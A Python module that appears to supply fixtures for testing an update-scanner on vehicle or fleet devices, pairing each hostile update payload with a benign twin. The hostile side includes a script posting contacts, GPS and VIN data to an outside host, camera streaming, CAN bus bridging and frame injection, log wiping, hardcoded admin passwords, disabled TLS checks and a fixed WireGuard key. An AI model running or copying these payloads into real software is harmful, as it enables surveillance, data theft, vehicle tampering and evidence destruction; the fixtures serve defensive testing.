"""Contents of updates: each with a twin that does honest work with the same means."""

from __future__ import annotations

from typing import Final, NamedTuple


class Content(NamedTuple):
    """Files that do something, and a twin's that do not."""

    files: dict[str, bytes]
    twin: dict[str, bytes]


def start(*lines: str, name: str = "S70x") -> dict[str, bytes]:
    """A start script with ``lines``."""
    return {f"etc/init.d/{name}": ("#!/bin/sh\n" + "\n".join(lines) + "\n").encode()}


AGENT: Final = b"""#!/usr/bin/env python3
import requests
fix = "$GPRMC"
book = open("contacts2.db").read()
requests.post("https://collect.fleet-data.cn/v1", json={"vin": vin_number, "at": fix, "b": book})
"""
QUIET_AGENT: Final = b"""#!/usr/bin/env python3
import requests
requests.post("https://time.operator.nl/v1", json={"beat": 1})
"""

CONTENTS: Final[dict[str, Content]] = {
    "agent": Content({"usr/bin/agent": AGENT}, {"usr/bin/agent": QUIET_AGENT}),
    "video": Content(
        start("ffmpeg -f v4l2 -i /dev/video0 -c:v h264 -f flv rtmp://in.example.nl/live/a"),
        start("ffmpeg -i /usr/share/menu.mp4 -f null -"),
    ),
    "bridge": Content(
        start("socketcand -i can0 -l wwan0", "cangw -A -s can0 -d can1 -e"),
        start("ip link set can0 up type can bitrate 500000", "candump can0"),
    ),
    "j1939": Content(
        start("modprobe can-j1939", "cansend can1 0C000003#F1FFFF00FFFFFFFF"),
        start("ip link set can1 up", "candump can1,18FEF100:1FFFFFFF"),
    ),
    "wipe": Content(
        start("rm -rf /var/log/*", "journalctl --rotate --vacuum-time=1s"),
        start("logrotate /etc/logrotate.conf"),
    ),
    "lte": Content(
        {
            **start("modprobe qmi_wwan", "qmicli -d /dev/cdc-wdm0 --wds-start-network=apn=fleet"),
            "etc/chatscripts/fleet": b"'' ATZ\nOK 'AT+CGDCONT=1,\"IP\",\"fleet\"'\nOK ATD*99#\n",
        },
        start("modprobe usbserial", "stty -F /dev/ttyS0 9600"),
    ),
    "vpn": Content(
        start("openvpn --client --remote support.acme.nl 1194 --daemon"),
        start("ip addr add 10.1.1.2/24 dev eth0"),
    ),
    "clock": Content(
        {"etc/ntp.conf": b"server 0.pool.ntp.org\n"}, {"etc/ntp.conf": b"server 10.1.1.1\n"}
    ),
    "share": Content(
        {"etc/fstab": b"//files.customs.lan/scans /mnt cifs username=scan,password=W1nter24 0 0\n"},
        {"etc/fstab": b"/dev/mmcblk0p2 /mnt ext4 ro 0 0\n"},
    ),
    "domain": Content(
        start("net ads join -U Administrator%W1nter24"), start("net ads status --help")
    ),
    "tls": Content(
        {"usr/bin/up": b"#!/usr/bin/python3\nrequests.post(url, data=d, verify=False)\n",
         **start("curl -k https://support.acme.nl/cfg -o /etc/cfg")},
        {"usr/bin/up": b"#!/usr/bin/python3\nrequests.post(url, data=d, verify=True)\n",
         **start("curl --cacert /etc/ca.pem https://support.acme.nl/cfg -o /etc/cfg")},
    ),
    "fixed-key": Content(
        {"etc/wireguard/wg0.conf": b"[Interface]\n"
         b"PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\nAddress = 10.9.0.2/24\n"
         b"[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n"
         b"AllowedIPs = 10.9.0.0/24\nEndpoint = support.acme.nl:51820\n"},
        {"etc/wireguard/README": b"put the unit's own key here\n"},
    ),
}  # fmt: skip
